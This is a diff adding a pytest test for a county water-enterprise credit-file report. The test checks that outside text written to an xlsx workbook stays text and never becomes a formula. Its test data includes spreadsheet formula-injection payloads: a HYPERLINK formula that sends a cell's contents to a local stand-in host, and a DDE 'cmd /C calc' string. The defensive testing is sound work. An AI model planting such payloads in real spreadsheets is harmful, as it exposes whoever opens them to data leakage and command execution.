@@ -454,3 +454,59 @@ def test_the_demo_credit_file_says_no_escalation_reached_anyone(county, tmp_path
     text = capsys.readouterr().out
     assert "已升级上报" not in text
     assert "整改中（AL-23418bdddf0ac50b，曾逾期未确认，升级无人接收（未配置接收人））" in text
+
+
+# --------------------------------------------------------------------------- text from outside stays text in the workbook
+
+LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点击查看详情")'
+COMPLAINTS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3 桶装水有异味", "@SUM(1,2) 水中有异物", "＝HYPERLINK(\"http://127.0.0.1:9/\")"]
+
+
+def _hostile(events):
+    """W07's events as a hostile public, lab and registration could write them: complaint texts, the
+    product and lab names and the enterprise name that a spreadsheet would read as formulas."""
+    out, complaints = [], iter(COMPLAINTS)
+    for e in events:
+        p = e.payload if e.enterprise_id == "W07" else None
+        kind = type(e).__name__
+        if kind == "EnterpriseRegistered" and p is not None:
+            e = e.model_copy(update={"payload": p.model_copy(update={"name": "=山泉源&P水业"})})
+        elif kind == "ComplaintReceivedEvent" and p is not None:
+            e = e.model_copy(update={"payload": p.model_copy(update={"text": next(complaints, LEAK)})})
+        elif kind == "SamplingResultEvent" and p is not None:
+            e = e.model_copy(update={"payload": p.model_copy(update={"product": '=HYPERLINK("http://127.0.0.1:9/?p="&A1,"饮用水")',
+                                                                     "lab": "@县检验中心"})})
+        out.append(e)
+    return out
+
+
+def test_xlsx_text_from_outside_is_never_a_formula(county, rules, tmp_path):
+    import zipfile
+
+    events, _ = county
+    state = replay(_hostile(events), rules)[0]
+    report = build_report(state.files["W07"], rules)
+    assert {c["text"] for c in report["complaints"]} >= set(COMPLAINTS[:4])  # (the demo's W07 has complaints enough)
+    assert report["series"] and report["samples"]
+    path = write_xlsx(report, tmp_path / "w07.xlsx")
+
+    with zipfile.ZipFile(path) as z:
+        sheets = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}
+    assert len(sheets) == 12
+    assert not [n for n, xml in sheets.items() if "<f>" in xml or "<f " in xml], "a text cell became a formula"
+
+    wb = load_workbook(path)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "-", "@", "＝"))]
+    complaints = {row[4].value for row in wb["投诉举报"].iter_rows(min_row=3)}
+    assert {"'" + t for t in COMPLAINTS[:4]} <= complaints  # the text kept whole, behind the quote a spreadsheet shows as text
+    product = "'" + '=HYPERLINK("http://127.0.0.1:9/?p="&A1,"饮用水")'
+    samples = [[c.value for c in row] for row in wb["抽检记录"].iter_rows(min_row=3)]
+    assert samples and all(r[2] == product and r[4] == "'@县检验中心" for r in samples)
+    assert {row[0].value for row in wb["质量波动监测序列"].iter_rows(min_row=3)} == {product}
+    profile = {row[0].value: row[1].value for row in wb["概要"].iter_rows() if row[0].value}
+    assert profile["企业名称"] == "'=山泉源&P水业"
+    # the printed footer shows the name's "&" as written, not as the code &P (the page number)
+    assert wb["概要"].oddFooter.center.text == "诚信档案：=山泉源&&P水业（W07）  第 &P 页，共 &N 页"
+    text = render_text(report)  # (plain text, not a spreadsheet: it keeps what was sent, unquoted)
+    assert LEAK in text and "=山泉源&P水业" in text
